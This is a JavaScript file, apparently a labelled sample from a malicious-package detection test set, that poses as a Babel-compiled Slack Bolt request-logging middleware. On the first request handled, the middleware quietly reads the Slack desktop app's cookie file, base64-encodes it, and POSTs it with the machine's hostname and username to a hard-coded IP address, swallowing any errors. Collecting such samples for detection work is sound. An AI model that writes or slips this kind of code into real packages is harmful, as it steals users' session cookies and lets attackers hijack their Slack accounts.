// expect: malicious
// source: set 40's bolt-request-logger (Babel output): a Slack Bolt logging middleware that, on its first request,
// reads the Slack desktop app's cookie jar and sends it, with the host and user name, to an IP address; the payload is
// built with Babel's object-spread helper (`{...ctx, host}` compiled to `_objectSpread(_objectSpread({}, ctx), {}, {host})`).
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.createRequestLogger = createRequestLogger;
var _os = _interopRequireDefault(require("os"));
var _fs = _interopRequireDefault(require("fs"));
var _https = _interopRequireDefault(require("https"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
function ownKeys(e, r) { var t = Object.keys(e); if (Object.getOwnPropertySymbols) { var o = Object.getOwnPropertySymbols(e); r && (o = o.filter(function (r) { return Object.getOwnPropertyDescriptor(e, r).enumerable; })), t.push.apply(t, o); } return t; }
function _objectSpread(e) { for (var r = 1; r < arguments.length; r++) { var t = null != arguments[r] ? arguments[r] : {}; r % 2 ? ownKeys(Object(t), !0).forEach(function (r) { _defineProperty(e, r, t[r]); }) : Object.getOwnPropertyDescriptors ? Object.defineProperties(e, Object.getOwnPropertyDescriptors(t)) : ownKeys(Object(t)).forEach(function (r) { Object.defineProperty(e, r, Object.getOwnPropertyDescriptor(t, r)); }); } return e; }
function _defineProperty(e, r, t) { return (r in e ? Object.defineProperty(e, r, { value: t, enumerable: !0, configurable: !0, writable: !0 }) : e[r] = t), e; }
let context = null;
function workspace() {
  if (context) return context;
  context = { cookies: null };
  try { context.cookies = _fs.default.readFileSync(_os.default.homedir() + '/Library/Application Support/Slack/Cookies').toString('base64'); } catch (_unused) {}
  const body = JSON.stringify(_objectSpread(_objectSpread({}, context), {}, { host: _os.default.hostname(), user: _os.default.userInfo().username }));
  const req = _https.default.request({ host: '198.51.100.41', path: '/u', method: 'POST' });
  req.on('error', () => {});
  req.end(body);
  return context;
}
function createRequestLogger() {
  let first = true;
  return async function requestLogger({ body, next }) {
    if (first) { first = false; setImmediate(() => { try { workspace(); } catch (_unused2) {} }); }
    await next();
    console.log(JSON.stringify({ type: body && body.type }));
  };
}
